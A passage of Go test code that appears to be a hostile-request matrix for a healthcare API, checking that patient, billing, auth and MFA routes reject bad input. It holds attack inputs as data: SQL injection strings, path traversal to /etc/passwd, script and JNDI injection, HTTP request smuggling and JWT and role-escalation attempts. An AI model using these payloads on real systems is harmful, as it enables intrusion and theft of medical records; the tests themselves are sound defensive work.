		fq("birthdate year 0", "/fhir/Patient?birthdate=ge0000", w.clin, 400),
		fq("birthdate injection", "/fhir/Patient?birthdate=1990%27%20OR%201%3D1", w.clin, 400),
		fq("phone not a number", "/fhir/Patient?phone=%27%20OR%201%3D1", w.clin, 400),
		fq("given 5000 chars", "/fhir/Patient?given="+strings.Repeat("a", 5000), w.clin, 400),
		fq("family with NUL", "/fhir/Patient?family=a%00", w.clin, 400),
		fq("Account without a patient", "/fhir/Account", w.bill, 400),
		fq("Account of a Group", "/fhir/Account?patient=Group/1", w.bill, 400),
		fq("Account patient not a UUID", "/fhir/Account?patient=Patient/%27%20OR%201%3D1", w.bill, 400),
		fq("Account patient and subject differ", "/fhir/Account?patient="+pref+"&subject=Patient/"+w.p2, w.bill, 400),
		fq("Account patient traversal", "/fhir/Account?patient=Patient/..%2f..%2fusers", w.bill, 400),
		fq("Invoice status not FHIR", "/fhir/Invoice?patient="+pref+"&status=open", w.bill, 400),
		fq("Invoice forged page token", "/fhir/Invoice?patient="+pref+"&_pageToken=forged", w.bill, 400),
		fq("Invoice _count=-1", "/fhir/Invoice?patient="+pref+"&_count=-1", w.bill, 400),
		fq("Invoice patient twice", "/fhir/Invoice?patient="+pref+"&patient="+pref, w.bill, 400),
		hostile{cat: catQuery, name: "FHIR Invoice unknown parameter, strict", method: "GET", path: "/fhir/Invoice?patient=" + pref + "&foo=1", token: w.bill,
			headers: []string{"Prefer", "handling=strict"}, want: []int{400}},
		fq("AuditEvent entity of an Account", "/fhir/AuditEvent?entity=Account/"+w.account, w.admin, 400),
		fq("AuditEvent patient not a UUID", "/fhir/AuditEvent?patient=abc", w.admin, 400),
		fq("AuditEvent forged page token", "/fhir/AuditEvent?patient="+pref+"&_pageToken=eyJhZnRlciI6LTF9", w.admin, 400),
		fq("AuditEvent of nobody", "/fhir/AuditEvent?patient=Patient/7b0c2f8e-9a51-4a7e-8a3e-0f1d2c3b4a59", w.admin, 404))

	// Bad query values.
	type listRoute struct {
		path, token                string
		ints, instants, ids, texts []string
		others                     []string
	}
	lists := []listRoute{
		{path: "/api/patients", token: w.clin, ints: []string{"limit"}, texts: []string{"q", "email"}, others: []string{"dateOfBirth", "pageToken", "identifier"}},
		{path: "/api/audit", token: w.admin, ints: []string{"limit"}, instants: []string{"from", "to"}, ids: []string{"patientId"}},
		{path: "/api/users/audit", token: w.admin, ints: []string{"limit"}, instants: []string{"from", "to"}, ids: []string{"userId"}},
		{path: "/api/billing/invoices", token: w.bill, ints: []string{"limit"}, ids: []string{"patientId"}, others: []string{"status", "pageToken"}},
		{path: "/api/billing/accounts", token: w.bill, ids: []string{"patientId"}},
		{path: "/api/analytics/summary", token: w.analyst, others: []string{"from", "to"}},
		{path: "/api/users", token: w.admin},
		{path: "/api/audit/verify", token: w.admin, others: []string{"againstTopic"}},
		{path: "/api/billing/audit/verify", token: w.admin, others: []string{"againstTopic"}},
		{path: "/api/analytics/audit/verify", token: w.admin, others: []string{"againstTopic"}},
		{path: "/api/gateway/audit/verify", token: w.admin, others: []string{"againstTopic"}},
		{path: "/auth/validate", token: w.clin},
		{path: "/auth/.well-known/jwks.json"},
		{path: "/api/patients/" + w.p1, token: w.clin},
		{path: "/api/billing/invoices/" + w.draft, token: w.bill},
		{path: "/api/patients/" + w.p1 + "/access-log", token: w.admin, ints: []string{"limit"}, others: []string{"pageToken"}},
	}
	for _, l := range lists {
		q := func(name, query string, want ...int) {
			add(hostile{cat: catQuery, name: name, method: "GET", path: l.path + "?" + query, token: l.token, want: want})
		}
		q("unknown parameter", "unknown=1")
		q("empty name", "=x")
		q("bracket name", "a[b]=1")
		q("semicolon separator", "a=1;b=2")
		q("10k parameters", strings.Repeat("x=1&", 10000))
		q("long unknown name", strings.Repeat("n", 5000)+"=1")
		for _, p := range l.ints {
			for _, v := range []string{"-1", "0", "1e9", "1000000000", "abc", "99999999999999999999", "1.0", "0x10", "%201", "1%00", "+5"} {
				q(p+"="+v, p+"="+v)
			}
			q(p+" repeated", p+"=1&"+p+"=2")
		}
		for _, p := range l.instants {
			for _, v := range []string{"abc", "9999-99-99", "2020-13-01", "2020-01-01T25:00:00Z", "2020-02-30", "-1", "1e9", "2020-01-01%00"} {
				q(p+"="+v, p+"="+v)
			}
			q(p+" repeated", p+"=2020-01-01&"+p+"=2021-01-01")
		}
		if len(l.instants) == 2 {
			q("to before from", "from=2030-01-01&to=2020-01-01")
		}
		for _, p := range l.ids {
			for _, v := range []string{"not-a-uuid", "..%2f..%2f", strings.Repeat("a", 5000)} {
				q(p+"="+v[:min(len(v), 20)], p+"="+v, 200, 400)
			}
			q(p+" repeated", p+"="+w.p1+"&"+p+"="+w.p2)
		}
		for _, p := range l.texts {
			q(p+" 5000 chars", p+"="+strings.Repeat("a", 5000))
			q(p+" repeated", p+"=a&"+p+"=b")
		}
		for _, p := range l.others {
			for _, v := range []string{"garbage", "eyJhZnRlciI6LTF9", strings.Repeat("A", 2000), "%2e%2e%2f", "-1"} {
				q(p+"="+v[:min(len(v), 20)], p+"="+v)
			}
			q(p+" repeated", p+"=a&"+p+"=b")
		}
	}

	// Header abuse.
	pat := "/api/patients"
	get := func(name string, headers []string, want ...int) hostile {
		return hostile{cat: catHeaders, name: name, method: "GET", path: pat, token: w.clin, headers: headers, want: want}
	}
	post := func(name string, headers []string, want ...int) hostile {
		return hostile{cat: catHeaders, name: name, method: "POST", path: pat, token: w.clin, body: w.patientBody("hdr@example.org"), headers: headers, want: want}
	}
	manyHeaders := func(n, size int) []string {
		var hs []string
		for i := range n {
			hs = append(hs, fmt.Sprintf("X-Pad-%d", i), strings.Repeat("p", size))
		}
		return hs
	}
	add(hostile{cat: catHeaders, name: "100 KiB header", method: "GET", path: pat, token: w.clin, headers: []string{"X-Pad", strings.Repeat("p", 100<<10)}, protocol: true, want: []int{431}},
		hostile{cat: catHeaders, name: "1000 headers", method: "GET", path: pat, token: w.clin, headers: manyHeaders(1000, 100), protocol: true, want: []int{431}},
		get("200 small headers", manyHeaders(200, 10), 200),
		hostile{cat: catHeaders, name: "space in a header name", method: "GET", path: pat, token: w.clin, headers: []string{"X Bad", "1"}, protocol: true},
		hostile{cat: catHeaders, name: "NUL in a header value", method: "GET", path: pat, token: w.clin, headers: []string{"X-Bad", "a\x00b"}, protocol: true},
		hostile{cat: catHeaders, name: "bare CR in a header value", method: "GET", path: pat, token: w.clin, headers: []string{"X-Bad", "a\rb"}, protocol: true},
		hostile{cat: catHeaders, name: "header without a colon", method: "GET", path: pat, token: w.clin, headers: []string{"X-Bad\r\nNoColonHere", "x"}, protocol: true},
		get("obsolete line folding", []string{"X-Folded", "a\r\n folded"}, 200, 400),
		hostile{cat: catHeaders, name: "no Host", head: "GET /api/patients HTTP/1.1\r\nAuthorization: Bearer " + w.clin + "\r\n\r\n", method: "GET", protocol: true},
		hostile{cat: catHeaders, name: "two Hosts", method: "GET", path: pat, token: w.clin, headers: []string{"Host", "evil.example"}, protocol: true},
		hostile{cat: catHeaders, name: "Host with a space", head: "GET /api/patients HTTP/1.1\r\nHost: a b\r\n\r\n", method: "GET", protocol: true},
		hostile{cat: catHeaders, name: "absolute-form for another host", head: "GET http://evil.example/api/users HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer " + w.clin + "\r\nConnection: close\r\n\r\n", method: "GET", want: []int{403}},
	)
	// Authorization.
	bearer := func(v string) []string { return []string{"Authorization", v} }
	for _, a := range []struct {
		name, value string
	}{
		{"Bearer without a token", "Bearer"}, {"Bearer and spaces", "Bearer    "}, {"Basic credentials", "Basic YWRtaW5AZXhhbXBsZS5vcmc6Ym9vdHN0cmFwIGFkbWluIHBhc3N3b3Jk"},
		{"Token scheme", "Token " + w.admin}, {"token and junk", "Bearer " + w.admin + " junk"}, {"two tokens in one header", "Bearer " + w.clin + ", Bearer " + w.admin},
		{"token in quotes", `Bearer "` + w.admin + `"`}, {"60 KiB token", "Bearer " + strings.Repeat("a", 60<<10)}, {"obs-text token", "Bearer \x80\xff\xfe"},
		{"Latin-1 token", "Bearer caf\xe9"}, {"JSON token", `Bearer {"alg":"none"}`}, {"NUL in the token", "Bearer a\x00b"},
	} {
		// A NUL is refused by net/http before any handler: a rejection, in plain text.
		nul := strings.ContainsRune(a.value, 0)
		pick := func(want ...int) []int {
			if nul {
				return nil
			}
			return want
		}
		add(hostile{cat: catHeaders, name: "Authorization: " + a.name, method: "GET", path: "/api/users", headers: bearer(a.value), want: pick(401), protocol: nul},
			// On a public route the token is not needed, and it must not break the call.
			hostile{cat: catHeaders, name: "Authorization on login: " + a.name, method: "POST", path: "/auth/login", headers: bearer(a.value),
				body: `{"email":"nobody@example.org","password":"not the password 1"}`, want: pick(401, 429), protocol: nul},
			hostile{cat: catHeaders, name: "Authorization on JWKS: " + a.name, method: "GET", path: "/auth/.well-known/jwks.json", headers: bearer(a.value),
				want: pick(200), protocol: nul})
	}
	add(hostile{cat: catHeaders, name: "two Authorization headers, analyst then admin", method: "GET", path: "/api/users",
		headers: append(bearer("Bearer "+w.analyst), bearer("Bearer "+w.admin)...), want: []int{401}},
		hostile{cat: catHeaders, name: "two Authorization headers, admin then analyst", method: "GET", path: "/api/users",
			headers: append(bearer("Bearer "+w.admin), bearer("Bearer "+w.analyst)...), want: []int{401}},
		hostile{cat: catHeaders, name: "two Authorization headers, clinician then garbage, on a create", method: "POST", path: pat,
			headers: append(bearer("Bearer "+w.clin), bearer("Bearer garbage")...), body: w.patientBody("dup-auth@example.org"), want: []int{401}},
		hostile{cat: catHeaders, name: "two Authorization headers, the same token", method: "DELETE", path: "/api/patients/" + w.p2,
			headers: append(bearer("Bearer "+w.clin), bearer("Bearer "+w.clin)...), want: []int{401}},
	)
	// Content-Type.
	for _, ct := range []string{"text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
		"application/json; charset=latin1", "application/json; charset=utf-16", "application/jsonp", "application/json, text/html",
		"application/json; foo=bar", ";;;", "application/json; charset=", "application/" + strings.Repeat("j", 10000), "*/*", "-"} {
		add(hostile{cat: catHeaders, name: "Content-Type " + ct[:min(len(ct), 40)], method: "POST", path: pat, token: w.clin,
			body: w.patientBody("ct@example.org"), ctype: ct, want: []int{415}})
	}
	for _, r := range routes {
		add(hostile{cat: catHeaders, name: "text/plain on " + r.path, method: r.method, path: r.path, token: r.token, body: r.body, ctype: "text/plain", want: []int{415}})
	}
	add(post("two Content-Types", []string{"Content-Type", "application/json", "Content-Type", "text/plain"}, 415))
	// Framing: Content-Length and Transfer-Encoding. The bodies are invalid, so whatever
	// framing a server believed, nothing could be written.
	bad := `{"bogus":1}`
	framing := func(name string, headers []string, body string) hostile {
		return hostile{cat: catHeaders, name: name, method: "POST", path: pat, token: w.clin, headers: headers, body: body, protocol: true, halfClose: true, framing: true}
	}
	add(framing("Content-Length -1", []string{"Content-Length", "-1"}, bad),
		framing("Content-Length abc", []string{"Content-Length", "abc"}, bad),
		framing("Content-Length 1e3", []string{"Content-Length", "1e3"}, bad),
		framing("two different Content-Lengths", []string{"Content-Length", "11", "Content-Length", "5"}, bad),
		framing("Content-Length too short", []string{"Content-Length", "5"}, bad),
		framing("Content-Length too long", []string{"Content-Length", "50"}, bad),
		framing("Content-Length with Transfer-Encoding", []string{"Content-Length", "3", "Transfer-Encoding", "chunked"}, "b\r\n"+bad+"\r\n0\r\n\r\n"),
		framing("bad chunk size", []string{"Transfer-Encoding", "chunked"}, "zz\r\n"+bad+"\r\n0\r\n\r\n"),
		framing("huge chunk size", []string{"Transfer-Encoding", "chunked"}, "ffffffffffffffff\r\n"+bad+"\r\n0\r\n\r\n"),
		framing("chunk without its end", []string{"Transfer-Encoding", "chunked"}, "b\r\n"+bad),
		framing("smuggled second request", []string{"Content-Length", "11"}, bad+"DELETE /api/patients/"+w.p1+" HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "+w.clin+"\r\n\r\n"),
	)
	// If-Match on an update that would change the record, and on a delete.
	for _, im := range [][]string{{`"abc"`}, {`W/abc`}, {`"0"`}, {`"-1"`}, {`"1", "2"`}, {`"1"`, `"1"`}, {`"99999999999999999999"`},
		{`"+1"`}, {`""`}, {`W/""`}, {`"1`}, {`1 2`}, {`"1"x`}, {`" 1"`}, {`"99"`}} {
		var hs []string
		for _, v := range im {
			hs = append(hs, "If-Match", v)
		}
		want := []int(nil)
		if im[0] == `"99"` {
			want = []int{412}
		}
		add(hostile{cat: catHeaders, name: "If-Match " + strings.Join(im, " | ") + " on update", method: "PUT", path: "/api/patients/" + w.p1, token: w.clin,
			body: routes[6].body, headers: hs, want: want},
			hostile{cat: catHeaders, name: "If-Match " + strings.Join(im, " | ") + " on delete", method: "DELETE", path: "/api/patients/" + w.p2, token: w.clin,
				headers: hs, want: want})
	}
	// X-Request-ID: a hostile one is replaced, never echoed.
	for _, id := range []string{strings.Repeat("a", 129), "<script>alert(1)</script>", "../../etc/passwd", "a b", "ü", "%00",
		strings.Repeat("x", 10000), "'; DROP TABLE audit_log;--", "${jndi:ldap://x}", "a\tb"} {
		check := replacedID(id)
		add(hostile{cat: catHeaders, name: "X-Request-ID " + id[:min(len(id), 30)], method: "GET", path: pat, token: w.clin,
			headers: []string{"X-Request-ID", id}, want: []int{200}, check: check},
			hostile{cat: catHeaders, name: "X-Request-ID on a rejection " + id[:min(len(id), 30)], method: "POST", path: pat, token: w.clin,
				body: `{"bogus":1}`, headers: []string{"X-Request-ID", id}, check: check})
	}
	add(get("two X-Request-IDs", []string{"X-Request-ID", "first-id", "X-Request-ID", "second-id"}, 200))
	// X-Forwarded-For: garbage is ignored.
	for _, xff := range []string{"not-an-ip", "1.2.3.4, <script>", "999.999.999.999", "::1%eth0", strings.Repeat("1.2.3.4, ", 500) + "5.6.7.8",
		"", "127.0.0.1", strings.Repeat("z", 10000), "[::1]:80", "1.2.3.4\t5.6.7.8"} {
		add(get("X-Forwarded-For "+xff[:min(len(xff), 30)], []string{"X-Forwarded-For", xff}, 200))
	}
	add(get("many X-Forwarded-For headers", []string{"X-Forwarded-For", "1.1.1.1", "X-Forwarded-For", "bad", "X-Forwarded-For", "2.2.2.2"}, 200))
	// Idempotency-Key abuse: the key is refused (by net/http already for the control
	// characters) and nothing is created.
	for _, k := range []struct{ name, v string }{{"201 characters", strings.Repeat("k", 201)}, {"non-ASCII", "ключ"}, {"10 KiB", strings.Repeat("k", 10<<10)},
		{"tab inside", "a\tb"}, {"DEL", "a\x7fb"}, {"control", "a\x01b"}} {
		for _, r := range []struct{ path, token, body string }{{pat, w.clin, w.patientBody("idem-bad@example.org")},
			{"/api/billing/invoices", w.bill, w.invoiceBody(w.p1)}, {"/api/billing/invoices/" + w.open + "/payments", w.bill, `{"amount":1,"method":"cash"}`}} {
			add(hostile{cat: catHeaders, name: "Idempotency-Key " + k.name + " on " + r.path, method: "POST", path: r.path, token: r.token,
				body: r.body, headers: []string{"Idempotency-Key", k.v}, protocol: true})
		}
	}
	add(post("two Idempotency-Keys", []string{"Idempotency-Key", "k1", "Idempotency-Key", "k2"}))

	// Every JWT attack of the auth issue, against the running auth service's own keys, on
	// routes of every service.
	jwtRoutes := []struct{ method, path, body string }{
		{"GET", "/api/patients", ""}, {"GET", "/api/patients/" + w.p1, ""}, {"POST", "/api/patients", w.patientBody("jwt@example.org")},
		{"DELETE", "/api/patients/" + w.p2, ""}, {"GET", "/api/users", ""}, {"PATCH", "/api/users/" + w.clinID, `{"role":"admin"}`},
		{"GET", "/auth/validate", ""}, {"GET", "/api/billing/invoices", ""}, {"POST", "/api/billing/invoices/" + w.draft + "/void", ""},
		{"GET", "/api/analytics/summary", ""}, {"GET", "/api/audit", ""}, {"GET", "/api/users/audit", ""},
		{"GET", "/api/audit/verify", ""}, {"GET", "/api/billing/audit/verify", ""}, {"GET", "/api/analytics/audit/verify", ""},
		{"GET", "/api/gateway/audit/verify", ""},
	}
	attacks := authztest.Attacks(w.t, is, w.clin2Refresh)
	names := make([]string, 0, len(attacks))
	for n := range attacks {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		for _, r := range jwtRoutes {
			add(hostile{cat: catJWT, name: n + " on " + r.method + " " + r.path, method: r.method, path: r.path, token: attacks[n], body: r.body,
				want: []int{401}, check: wantWord(errs.Unauthenticated)})
		}
	}

	// Role escalation: every non-admin role on the admin routes, and on what its row of the
	// role table does not allow.
	for role, tok := range map[string]string{authz.RoleClinician: w.clin, authz.RoleBilling: w.bill, authz.RoleAnalyst: w.analyst} {
		self := map[string]string{authz.RoleClinician: w.clinID, authz.RoleBilling: w.billID, authz.RoleAnalyst: w.analystID}[role]
		deny := func(method, path, body string) {
			add(hostile{cat: catRoles, name: role + " " + method + " " + path, method: method, path: path, token: tok, body: body,
				want: []int{403}, check: wantWord(errs.PermissionDenied)})
		}
		deny("POST", "/api/users", `{"email":"`+role+`-admin@example.org","password":"`+matrixPassword+`","role":"admin"}`)
		deny("GET", "/api/users", "")
		deny("GET", "/api/users/audit", "")
		deny("GET", "/api/users/"+w.adminID, "")
		deny("GET", "/api/users/"+self, "")
		deny("PATCH", "/api/users/"+self, `{"role":"admin"}`)
		deny("PATCH", "/api/users/"+w.adminID, `{"disabled":true}`)
		deny("PATCH", "/api/users/"+w.adminID, `{"role":"analyst"}`)
		deny("GET", "/api/audit", "")
		deny("GET", "/api/audit?patientId="+w.p1, "")
		deny("GET", "/api/audit/verify", "")
		deny("GET", "/api/billing/audit/verify", "")
		deny("GET", "/api/analytics/audit/verify", "")
		deny("GET", "/api/gateway/audit/verify", "")
		if role != authz.RoleClinician {
			deny("POST", "/api/patients", w.patientBody(role+"-made@example.org"))
			deny("PUT", "/api/patients/"+w.p1, routes[6].body)
			deny("DELETE", "/api/patients/"+w.p2, "")
		}
		if role != authz.RoleBilling {
			deny("POST", "/api/billing/invoices", w.invoiceBody(w.p1))
			deny("POST", "/api/billing/invoices/"+w.draft+"/issue", "")
			deny("POST", "/api/billing/invoices/"+w.open+"/payments", `{"amount":1,"method":"cash"}`)
			deny("POST", "/api/billing/invoices/"+w.open+"/void", "")
		}
		if role != authz.RoleAnalyst {
			deny("GET", "/api/analytics/summary", "")
		}
		// A body that names a role or another user where none is asked for is refused.
		add(hostile{cat: catRoles, name: role + " create with a role field", method: "POST", path: "/api/patients", token: tok,
			body: with(w.patientBody(role+"-role@example.org"), "role", `"admin"`)})
	}
	// An admin's body cannot smuggle fields the route does not take either.
	add(hostile{cat: catRoles, name: "user create with an id", method: "POST", path: "/api/users", token: w.admin,
		body: with(`{"email":"with-id@example.org","password":"`+matrixPassword+`","role":"admin"}`, "id", `"`+w.adminID+`"`)},
		hostile{cat: catRoles, name: "user update of the password", method: "PATCH", path: "/api/users/" + w.clinID, token: w.admin, body: `{"password":"a new password 123"}`},
		hostile{cat: catRoles, name: "user update to an unknown role", method: "PATCH", path: "/api/users/" + w.clinID, token: w.admin, body: `{"role":"superuser"}`},
		hostile{cat: catRoles, name: "user update with an email", method: "PATCH", path: "/api/users/" + w.clinID, token: w.admin, body: `{"email":"admin@example.org"}`},
		hostile{cat: catRoles, name: "access token as a refresh token", method: "POST", path: "/auth/refresh", body: `{"refreshToken":"` + w.clin + `"}`},
		hostile{cat: catRoles, name: "refresh token as an access token on the admin route", method: "GET", path: "/api/users", token: w.clin2Refresh, want: []int{401}},
		hostile{cat: catRoles, name: "patient update with a new mrn", method: "PUT", path: "/api/patients/" + w.p1, token: w.clin,
			body: with(routes[6].body, "mrn", `"9999999999"`)},
		hostile{cat: catRoles, name: "patient update with a new version", method: "PUT", path: "/api/patients/" + w.p1, token: w.clin,
			body: with(routes[6].body, "version", `42`)},
		hostile{cat: catRoles, name: "patient update with another id", method: "PUT", path: "/api/patients/" + w.p1, token: w.clin,
			body: with(routes[6].body, "id", `"`+w.p2+`"`)},
	)

	// Other users' resources: tokens and sessions that are not the caller's, records their
	// role may not see.
	add(hostile{cat: catOthers, name: "logout with an unknown token", method: "POST", path: "/auth/logout", body: `{"refreshToken":"` + strings.Repeat("B", 43) + `"}`, want: []int{204}},
		hostile{cat: catOthers, name: "logout with a revoked token", method: "POST", path: "/auth/logout", body: `{"refreshToken":"` + w.loggedOut + `"}`, want: []int{204}},
		hostile{cat: catOthers, name: "refresh with a revoked token", method: "POST", path: "/auth/refresh", body: `{"refreshToken":"` + w.loggedOut + `"}`, want: []int{401}},
		hostile{cat: catOthers, name: "refresh with a reused token", method: "POST", path: "/auth/refresh", body: `{"refreshToken":"` + w.usedRefresh + `"}`, want: []int{401}},
		hostile{cat: catOthers, name: "refresh of a disabled user", method: "POST", path: "/auth/refresh", body: `{"refreshToken":"` + w.disabledUser + `"}`, want: []int{401}},
		hostile{cat: catOthers, name: "refresh with a 257-character token", method: "POST", path: "/auth/refresh", body: `{"refreshToken":"` + strings.Repeat("C", 257) + `"}`},
		hostile{cat: catOthers, name: "refresh with another user's token in the header", method: "POST", path: "/auth/refresh", token: w.clin2Refresh, body: `{"refreshToken":""}`},
		// Set-password tokens: used, unknown, oversized, another credential, missing fields;
		// the pending invite's token with a password the rules refuse (it stays usable).
		hostile{cat: catOthers, name: "set password with a used invite token", method: "POST", path: "/auth/password/set",
			body: `{"token":"` + w.usedInvite + `","newPassword":"` + matrixPassword + ` 2"}`, want: []int{400}, check: wantWord(errs.InvalidArgument)},
		hostile{cat: catOthers, name: "set password with an unknown token", method: "POST", path: "/auth/password/set",
			body: `{"token":"` + strings.Repeat("D", 43) + `","newPassword":"` + matrixPassword + `"}`, want: []int{400}},
		hostile{cat: catOthers, name: "set password with a 257-character token", method: "POST", path: "/auth/password/set",
			body: `{"token":"` + strings.Repeat("E", 257) + `","newPassword":"` + matrixPassword + `"}`, want: []int{400}},
		hostile{cat: catOthers, name: "set password with a 1 MiB - 100 token", method: "POST", path: "/auth/password/set",
			body: `{"token":"` + strings.Repeat("F", 1<<20-100) + `","newPassword":"x"}`, want: []int{400}},
		hostile{cat: catOthers, name: "set password with a refresh token", method: "POST", path: "/auth/password/set",
			body: `{"token":"` + w.clin2Refresh + `","newPassword":"` + matrixPassword + `"}`, want: []int{400}},
		hostile{cat: catOthers, name: "set password with an access token", method: "POST", path: "/auth/password/set", token: w.clin,
			body: `{"token":"` + w.clin + `","newPassword":"` + matrixPassword + `"}`, want: []int{400}},
		hostile{cat: catOthers, name: "set password without newPassword", method: "POST", path: "/auth/password/set",
			body: `{"token":"` + w.pendingInvite + `"}`, want: []int{400}},
		hostile{cat: catOthers, name: "set password without token", method: "POST", path: "/auth/password/set",
			body: `{"newPassword":"` + matrixPassword + `"}`, want: []int{400}},
		hostile{cat: catOthers, name: "set password with an empty object", method: "POST", path: "/auth/password/set", body: `{}`, want: []int{400}},
		hostile{cat: catOthers, name: "set password to the invitee's email", method: "POST", path: "/auth/password/set",
			body: `{"token":"` + w.pendingInvite + `","newPassword":"pending@example.org"}`, want: []int{400}},
		hostile{cat: catOthers, name: "set password to 11 characters", method: "POST", path: "/auth/password/set",
			body: `{"token":"` + w.pendingInvite + `","newPassword":"eleven char"}`, want: []int{400}},
		// Changing one's own password: no token, a refresh token for one, a wrong current
		// password (401, counted by the throttle), refused new passwords, oversized fields.
		hostile{cat: catOthers, name: "change password without a token", method: "POST", path: "/auth/password",
			body: `{"currentPassword":"` + matrixPassword + `","newPassword":"` + matrixPassword + ` 2"}`, want: []int{401}},
		hostile{cat: catOthers, name: "change password with a refresh token", method: "POST", path: "/auth/password", token: w.clin2Refresh,
			body: `{"currentPassword":"` + matrixPassword + `","newPassword":"` + matrixPassword + ` 2"}`, want: []int{401}},
		hostile{cat: catOthers, name: "change password with a wrong current password", method: "POST", path: "/auth/password", token: w.clin,
			body: `{"currentPassword":"not the password 1","newPassword":"` + matrixPassword + ` 2"}`, want: []int{401, 429}},
		hostile{cat: catOthers, name: "change password to a common password", method: "POST", path: "/auth/password", token: w.clin,
			body: `{"currentPassword":"` + matrixPassword + `","newPassword":"password123456"}`, want: []int{400}},
		hostile{cat: catOthers, name: "change password to 11 characters", method: "POST", path: "/auth/password", token: w.clin,
			body: `{"currentPassword":"` + matrixPassword + `","newPassword":"eleven char"}`, want: []int{400}},
		hostile{cat: catOthers, name: "change password with an empty object", method: "POST", path: "/auth/password", token: w.clin, body: `{}`, want: []int{400}},
		hostile{cat: catOthers, name: "change password with a 1 MiB - 100 current password", method: "POST", path: "/auth/password", token: w.clin,
			body: `{"currentPassword":"` + strings.Repeat("G", 1<<20-100) + `","newPassword":"` + matrixPassword + ` 2"}`, want: []int{400}},
		// MFA: the login steps with garbage, oversized, foreign or missing challenges and
		// malformed codes; the own-factor routes without a token, with a refresh token for
		// one, with malformed codes, oversized fields and a query. Never a 5xx, never a factor.
		hostile{cat: catOthers, name: "mfa login with an unknown challenge", method: "POST", path: "/auth/login/mfa",
			body: `{"challenge":"` + strings.Repeat("H", 43) + `","code":"123456"}`, want: []int{401}, check: wantWord(errs.Unauthenticated)},
		hostile{cat: catOthers, name: "mfa login with a refresh token as challenge", method: "POST", path: "/auth/login/mfa",
			body: `{"challenge":"` + w.clin2Refresh + `","code":"123456"}`, want: []int{401}},
		hostile{cat: catOthers, name: "mfa login with an access token as challenge", method: "POST", path: "/auth/login/mfa", token: w.clin,
			body: `{"challenge":"` + w.clin + `","code":"123456"}`, want: []int{400, 401}},
		hostile{cat: catOthers, name: "mfa login with a 257-character challenge", method: "POST", path: "/auth/login/mfa",
			body: `{"challenge":"` + strings.Repeat("H", 257) + `","code":"123456"}`, want: []int{400}},
		hostile{cat: catOthers, name: "mfa login with a 1 MiB - 100 challenge", method: "POST", path: "/auth/login/mfa",
			body: `{"challenge":"` + strings.Repeat("H", 1<<20-100) + `","code":"123456"}`, want: []int{400}},
		hostile{cat: catOthers, name: "mfa login with a numeric code", method: "POST", path: "/auth/login/mfa",
			body: `{"challenge":"` + strings.Repeat("H", 43) + `","code":123456}`, want: []int{400}},
		hostile{cat: catOthers, name: "mfa login with a 7-digit code", method: "POST", path: "/auth/login/mfa",
			body: `{"challenge":"` + strings.Repeat("H", 43) + `","code":"1234567"}`, want: []int{400}},
		hostile{cat: catOthers, name: "mfa login with a code and a recovery code", method: "POST", path: "/auth/login/mfa",
			body: `{"challenge":"` + strings.Repeat("H", 43) + `","code":"123456","recoveryCode":"AAAA-BBBB-CCCC-DDDD"}`, want: []int{400}},
		hostile{cat: catOthers, name: "mfa login with a malformed recovery code", method: "POST", path: "/auth/login/mfa",
			body: `{"challenge":"` + strings.Repeat("H", 43) + `","recoveryCode":"' OR 1=1 --"}`, want: []int{400}},
		hostile{cat: catOthers, name: "mfa login without a code", method: "POST", path: "/auth/login/mfa",
			body: `{"challenge":"` + strings.Repeat("H", 43) + `"}`, want: []int{400}},
		hostile{cat: catOthers, name: "mfa login with an empty object", method: "POST", path: "/auth/login/mfa", body: `{}`, want: []int{400}},
		hostile{cat: catOthers, name: "mfa enrol by an unknown challenge", method: "POST", path: "/auth/login/mfa/enrol",
			body: `{"challenge":"` + strings.Repeat("H", 43) + `"}`, want: []int{401}},
		hostile{cat: catOthers, name: "mfa enrol by a set-password token", method: "POST", path: "/auth/login/mfa/enrol",
			body: `{"challenge":"` + w.pendingInvite + `"}`, want: []int{401}},
		hostile{cat: catOthers, name: "mfa enrol by a challenge array", method: "POST", path: "/auth/login/mfa/enrol",
			body: `{"challenge":["` + strings.Repeat("H", 43) + `"]}`, want: []int{400}},
		hostile{cat: catOthers, name: "mfa confirm by an unknown challenge", method: "POST", path: "/auth/login/mfa/confirm",
			body: `{"challenge":"` + strings.Repeat("H", 43) + `","code":"123456"}`, want: []int{401}},
		hostile{cat: catOthers, name: "mfa confirm by a challenge without a code", method: "POST", path: "/auth/login/mfa/confirm",
			body: `{"challenge":"` + strings.Repeat("H", 43) + `","code":""}`, want: []int{400, 401}},
		hostile{cat: catOthers, name: "enrol a factor without a token", method: "POST", path: "/auth/mfa/totp", want: []int{401}},
		hostile{cat: catOthers, name: "enrol a factor with a refresh token", method: "POST", path: "/auth/mfa/totp", token: w.clin2Refresh, want: []int{401}},
		hostile{cat: catOthers, name: "enrol a factor with a query", method: "POST", path: "/auth/mfa/totp?user=" + w.adminID, token: w.analyst, want: []int{400}},
		hostile{cat: catOthers, name: "confirm a factor without a token", method: "POST", path: "/auth/mfa/totp/confirm", body: `{"code":"123456"}`, want: []int{401}},
		hostile{cat: catOthers, name: "confirm a factor with a 5-digit code", method: "POST", path: "/auth/mfa/totp/confirm", token: w.analyst,
			body: `{"code":"12345"}`, want: []int{400}},
		hostile{cat: catOthers, name: "confirm a factor with letters", method: "POST", path: "/auth/mfa/totp/confirm", token: w.analyst,
			body: `{"code":"12345a"}`, want: []int{400}},
		hostile{cat: catOthers, name: "confirm a factor with a 1 MiB - 100 code", method: "POST", path: "/auth/mfa/totp/confirm", token: w.analyst,
			body: `{"code":"` + strings.Repeat("1", 1<<20-100) + `"}`, want: []int{400}},
		hostile{cat: catOthers, name: "disable a factor without a token", method: "POST", path: "/auth/mfa/totp/disable", body: `{"code":"123456"}`, want: []int{401}},
		hostile{cat: catOthers, name: "disable a factor with an empty object", method: "POST", path: "/auth/mfa/totp/disable", token: w.analyst, body: `{}`, want: []int{400}},
		hostile{cat: catOthers, name: "disable a factor with a 1 MiB - 100 recovery code", method: "POST", path: "/auth/mfa/totp/disable", token: w.analyst,
			body: `{"recoveryCode":"` + strings.Repeat("A", 1<<20-100) + `"}`, want: []int{400}},
		// Admin resets: by a non-admin, of an unknown or malformed id, with a query.
		hostile{cat: catOthers, name: "reset password as a clinician", method: "POST", path: "/api/users/" + w.analystID + "/reset-password", token: w.clin, want: []int{403}},
		hostile{cat: catOthers, name: "reset password without a token", method: "POST", path: "/api/users/" + w.analystID + "/reset-password", want: []int{401}},
